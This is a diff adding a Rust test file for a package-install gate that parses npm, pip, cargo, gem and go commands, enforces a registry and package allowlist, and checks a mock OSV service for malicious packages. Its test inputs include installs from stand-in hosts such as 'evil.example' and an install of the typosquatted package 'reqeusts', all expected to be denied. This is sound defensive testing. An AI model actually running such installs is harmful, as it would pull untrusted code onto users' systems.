@@ -0,0 +1,261 @@
+//! Tests for package install gating: command parsing, registries, the
+//! allowlist and OSV advisory lookups.
+
+mod common;
+
+use std::collections::BTreeMap;
+
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpListener;
+
+use hookwise::cascade::packages::{
+    package_installs, registry_host, PackageGate, PackageInstall, PackageRef,
+};
+use hookwise::cascade::{CascadeInput, CascadeTier};
+use hookwise::config::{Ecosystem, OsvConfig, PackageGateConfig};
+use hookwise::decision::{Decision, DecisionTier};
+
+fn parse(command: &str) -> PackageInstall {
+    PackageInstall::parse(command).unwrap_or_else(|| panic!("not an install: {command}"))
+}
+
+fn names(install: &PackageInstall) -> Vec<&str> {
+    install.packages.iter().map(|p| p.name.as_str()).collect()
+}
+
+fn bash(command: &str) -> CascadeInput {
+    CascadeInput {
+        sanitized_input: command.into(),
+        ..common::input(
+            common::session(),
+            "Bash",
+            serde_json::json!({ "command": command }),
+        )
+    }
+}
+
+fn gate(config: PackageGateConfig) -> PackageGate {
+    PackageGate::compile(&config).unwrap().unwrap()
+}
+
+fn allowlist_gate() -> PackageGate {
+    let mut allowlist = BTreeMap::new();
+    allowlist.insert(Ecosystem::Npm, vec!["react".into(), "@acme/*".into()]);
+    allowlist.insert(Ecosystem::Pip, vec!["requests".into()]);
+    gate(PackageGateConfig {
+        allowed_registries: vec![
+            "registry.npmjs.org".into(),
+            "https://pypi.org/simple".into(),
+        ],
+        allowlist,
+        osv: OsvConfig::default(),
+    })
+}
+
+async fn decide(gate: &PackageGate, command: &str) -> Option<Decision> {
+    gate.evaluate(&bash(command))
+        .await
+        .unwrap()
+        .map(|r| r.decision)
+}
+
+/// Answer one OSV batch query with `body` and return the request.
+async fn serve_osv_once(listener: TcpListener, body: &'static str) -> String {
+    let (mut stream, _) = listener.accept().await.unwrap();
+    let mut buf = vec![0u8; 8192];
+    let mut request = String::new();
+    loop {
+        let n = stream.read(&mut buf).await.unwrap();
+        request.push_str(&String::from_utf8_lossy(&buf[..n]));
+        if let Some(header_end) = request.find("\r\n\r\n") {
+            let content_length = request[..header_end]
+                .lines()
+                .find_map(|l| {
+                    l.to_lowercase()
+                        .strip_prefix("content-length:")
+                        .map(|v| v.trim().parse::<usize>().unwrap())
+                })
+                .unwrap_or(0);
+            if request.len() >= header_end + 4 + content_length {
+                break;
+            }
+        }
+        if n == 0 {
+            break;
+        }
+    }
+    let response = format!(
+        "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{}",
+        body.len(),
+        body
+    );
+    stream.write_all(response.as_bytes()).await.unwrap();
+    request
+}
+
+#[test]
+fn parses_installs_per_ecosystem() {
+    let npm = parse("npm install --save-dev @acme/ui@2.1.0 react --registry=https://npm.acme.dev");
+    assert_eq!(npm.ecosystem, Ecosystem::Npm);
+    assert_eq!(
+        npm.packages[0],
+        PackageRef {
+            name: "@acme/ui".into(),
+            version: Some("2.1.0".into())
+        }
+    );
+    assert_eq!(names(&npm), vec!["@acme/ui", "react"]);
+    assert_eq!(npm.registries, vec!["https://npm.acme.dev"]);
+
+    let pip =
+        parse("python3 -m pip install 'requests[socks]==2.31.0' -i https://mirror.example/simple");
+    assert_eq!(pip.ecosystem, Ecosystem::Pip);
+    assert_eq!(pip.packages[0].name, "requests");
+    assert_eq!(pip.packages[0].version.as_deref(), Some("2.31.0"));
+    assert_eq!(pip.registries, vec!["https://mirror.example/simple"]);
+
+    let cargo = parse("cargo add serde@1 -F derive --registry internal");
+    assert_eq!(names(&cargo), vec!["serde"]);
+    assert_eq!(cargo.registries, vec!["internal"]);
+
+    let gem = parse("gem install rails -v 7.1.0 --source https://gems.example");
+    assert_eq!(gem.packages[0].version.as_deref(), Some("7.1.0"));
+    assert_eq!(gem.registries, vec!["https://gems.example"]);
+
+    let go = parse("go install golang.org/x/tools/gopls@latest");
+    assert_eq!(go.ecosystem, Ecosystem::Go);
+    assert_eq!(names(&go), vec!["golang.org/x/tools/gopls"]);
+}
+
+#[test]
+fn skips_local_sources_and_non_installs() {
+    assert!(parse("npm install").packages.is_empty());
+    assert!(parse("cargo install --path .").packages.is_empty());
+    assert!(parse("pip install -e ./lib").packages.is_empty());
+    assert_eq!(
+        parse("pip install -r requirements.txt").unresolved,
+        vec!["-r requirements.txt"]
+    );
+    assert_eq!(
+        parse("npm i https://evil.example/pkg.tgz").registries,
+        vec!["https://evil.example/pkg.tgz"]
+    );
+    assert!(PackageInstall::parse("npm run build").is_none());
+    assert!(PackageInstall::parse("cargo build").is_none());
+    assert!(PackageInstall::parse("python3 script.py install").is_none());
+
+    let installs = package_installs("cd web && sudo npm i lodash; yarn add left-pad");
+    assert_eq!(installs.len(), 2);
+    assert_eq!(names(&installs[1]), vec!["left-pad"]);
+}
+
+#[test]
+fn registry_hosts_are_normalized() {
+    assert_eq!(
+        registry_host("https://user@NPM.acme.dev:8443/x"),
+        "npm.acme.dev"
+    );
+    assert_eq!(registry_host("git@github.com:org/repo"), "github.com");
+    assert_eq!(registry_host("internal"), "internal");
+}
+
+#[test]
+fn empty_config_compiles_to_none() {
+    assert!(PackageGate::compile(&PackageGateConfig::default())
+        .unwrap()
+        .is_none());
+}
+
+#[tokio::test]
+async fn unlisted_registries_deny_and_unlisted_packages_ask() {
+    let gate = allowlist_gate();
+    assert_eq!(
+        decide(
+            &gate,
+            "npm install react --registry https://npm.evil.example"
+        )
+        .await,
+        Some(Decision::Deny)
+    );
+    assert_eq!(
+        decide(&gate, "pip install requests -i https://pypi.org/simple").await,
+        None
+    );
+    assert_eq!(decide(&gate, "npm install react @acme/ui").await, None);
+    assert_eq!(
+        decide(&gate, "npm install react leftpad").await,
+        Some(Decision::Ask)
+    );
+    assert_eq!(
+        decide(&gate, "cargo add serde").await,
+        Some(Decision::Ask),
+        "ecosystems without an allowlist entry ask"
+    );
+    assert_eq!(
+        decide(&gate, "pip install -r requirements.txt").await,
+        Some(Decision::Ask)
+    );
+    assert_eq!(decide(&gate, "npm run build").await, None);
+
+    let record = gate
+        .evaluate(&bash("npm i leftpad"))
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(record.metadata.tier, DecisionTier::PackageGate);
+    assert_eq!(
+        record.metadata.reason,
+        "npm package 'leftpad' is not in the packages allowlist"
+    );
+}
+
+#[tokio::test]
+async fn osv_malicious_packages_deny() {
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    let server = tokio::spawn(serve_osv_once(
+        listener,
+        r#"{"results":[{},{"vulns":[{"id":"GHSA-xxxx"},{"id":"MAL-2024-1234"}]}]}"#,
+    ));
+
+    let gate = gate(PackageGateConfig {
+        osv: OsvConfig {
+            enabled: true,
+            url,
+            timeout_secs: 5,
+        },
+        ..Default::default()
+    });
+    let record = gate
+        .evaluate(&bash("pip install requests reqeusts"))
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(record.decision, Decision::Deny);
+    assert_eq!(
+        record.metadata.reason,
+        "pip package 'reqeusts' is known to be malicious (MAL-2024-1234)"
+    );
+
+    let request = server.await.unwrap();
+    assert!(request.starts_with("POST /v1/querybatch"));
+    assert!(request.contains(r#""ecosystem":"PyPI""#));
+    assert!(request.contains(r#""name":"reqeusts""#));
+}
+
+#[tokio::test]
+async fn osv_failures_do_not_block() {
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    drop(listener);
+
+    let gate = gate(PackageGateConfig {
+        osv: OsvConfig {
+            enabled: true,
+            url,
+            timeout_secs: 1,
+        },
+        ..Default::default()
+    });
+    assert_eq!(decide(&gate, "npm install react").await, None);
+}